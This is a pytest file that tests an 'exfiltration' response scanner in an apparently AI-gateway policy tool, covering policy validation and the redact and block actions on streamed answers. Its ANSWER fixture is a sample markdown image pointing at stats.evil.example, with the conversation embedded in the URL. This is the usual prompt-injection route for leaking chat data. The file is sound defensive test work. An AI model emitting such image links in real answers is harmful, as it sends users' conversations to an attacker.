"""The `exfiltration` scanner in a policy: accepted by `weir policy check`, enforced on answers."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from extproc.scan_plan import plan_for
from mesh.policy import PolicyError, parse_policy
from mesh.policy_cli import check

POLICY = """\
trustDomain: cluster.local
defaultAction: deny
workloads:
  - name: chat
    match: ["spiffe://cluster.local/ns/apps/sa/chat"]
    response: [{{scanner: exfiltration, action: {action}}}]
"""
ANSWER = "Done! ![chart](https://stats.evil.example/p.png?d={conversation}) Anything else?"


def test_policy_check_accepts_an_exfiltration_rule(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY.format(action="redact"), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    assert check(str(path), out, err) == 0, err.getvalue()


def test_policy_check_rejects_a_misspelt_exfiltration_scanner(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY.format(action="redact").replace("exfiltration", "exfil"), "utf-8")
    out, err = io.StringIO(), io.StringIO()
    assert check(str(path), out, err) == 2
    assert "workloads[0].response[0].scanner" in err.getvalue()
    assert "expected one of: secrets, pii, prompt-injection, exfiltration" in err.getvalue()


@pytest.mark.parametrize("size", [1, 7, 4096])
def test_redact_replaces_the_exfiltrating_image_in_a_streamed_answer(size: int) -> None:
    policy = parse_policy(POLICY.format(action="redact"))
    plan = plan_for(policy.workloads[0].response, enforcing=True)
    assert plan is not None
    st = plan.stream()
    data = ANSWER.encode()
    out = b"".join(st.feed(data[i : i + size])[0] for i in range(0, len(data), size))
    out += st.finish()[0]
    assert out.decode() == "Done! [REDACTED:markdown-image-exfiltration] Anything else?"


def test_block_releases_only_the_text_before_the_image() -> None:
    policy = parse_policy(POLICY.format(action="block"))
    plan = plan_for(policy.workloads[0].response, enforcing=True)
    assert plan is not None
    st = plan.stream()
    out, found = st.feed(ANSWER.encode())
    out2, found2 = st.finish()
    assert st.blocked
    assert (out + out2).decode() == "Done! "
    assert [f.rule for f in found + found2] == ["markdown-image-exfiltration"]


def test_an_unknown_action_for_exfiltration_is_refused() -> None:
    with pytest.raises(PolicyError, match="response"):
        parse_policy(POLICY.format(action="drop"))
